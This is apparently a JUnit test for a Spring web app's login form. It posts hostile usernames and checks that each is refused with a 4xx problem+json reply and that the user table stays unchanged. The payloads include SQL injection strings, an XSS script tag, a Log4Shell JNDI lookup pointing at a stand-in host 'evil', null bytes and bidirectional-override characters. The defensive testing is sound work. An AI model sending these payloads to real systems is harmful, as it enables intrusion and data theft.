package io.engage.engine.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.engage.engine.Api;
import io.engage.engine.EngineTest;
import java.io.IOException;
import java.net.CookieManager;
import java.net.HttpCookie;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/** The login form refuses hostile usernames and bodies with a 401 problem+json, and people can still log in. */
class LoginFormTest extends EngineTest {

  @LocalServerPort int port;
  @Autowired JdbcTemplate jdbc;

  @ParameterizedTest
  @ValueSource(strings = {
      "username=' OR '1'='1' --&password=x",
      "username=admin'--&password=",
      "username=ad%00min&password=engage-demo",
      "username=ADMIN&password=engage-demo",
      "username=adm%E2%80%AEnim&password=engage-demo",
      "username=%F0%9F%98%80&password=%F0%9F%98%80",
      "username=%C3%28&password=%ED%A0%80",
      "username=<script>alert(1)</script>&password=x",
      "username=${jndi:ldap://evil/a}&password=x",
      "password=engage-demo",
      "username=&password=",
      "{\"username\":\"admin\",\"password\":\"engage-demo\"}",
      "LONG"})
  void hostileLoginsAreRefusedAndTheFormKeepsWorking(String form) throws Exception {
    int users = jdbc.queryForObject("SELECT COUNT(*) FROM app_user", Integer.class);
    String body = form.equals("LONG") ? "username=" + "a".repeat(100_000) + "&password=x" : form;

    HttpResponse<String> refused = login(body);

    assertThat(refused.statusCode()).as(body.length() > 200 ? "long username" : body).isBetween(400, 499);
    assertThat(refused.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
    assertThat(refused.body()).contains("detail");
    assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM app_user", Integer.class)).isEqualTo(users);
    assertThat(login("username=marketer&password=" + Api.DEMO_PASSWORD).statusCode()).isEqualTo(200);
  }

  /** A form login as the UI does it: the CSRF cookie from the first page, sent back as a header. */
  private HttpResponse<String> login(String body) throws IOException, InterruptedException {
    CookieManager cookies = new CookieManager();
    HttpClient http = HttpClient.newBuilder().cookieHandler(cookies).build();
    URI base = URI.create("http://127.0.0.1:" + port);
    http.send(HttpRequest.newBuilder(base.resolve("/")).GET().build(), HttpResponse.BodyHandlers.discarding());
    String token = cookies.getCookieStore().get(base).stream().filter(c -> c.getName().equals("XSRF-TOKEN"))
        .map(HttpCookie::getValue).findFirst().orElse("");
    return http.send(HttpRequest.newBuilder(base.resolve("/login"))
        .header("Content-Type", "application/x-www-form-urlencoded").header("X-XSRF-TOKEN", token)
        .POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8)).build(),
        HttpResponse.BodyHandlers.ofString());
  }
}
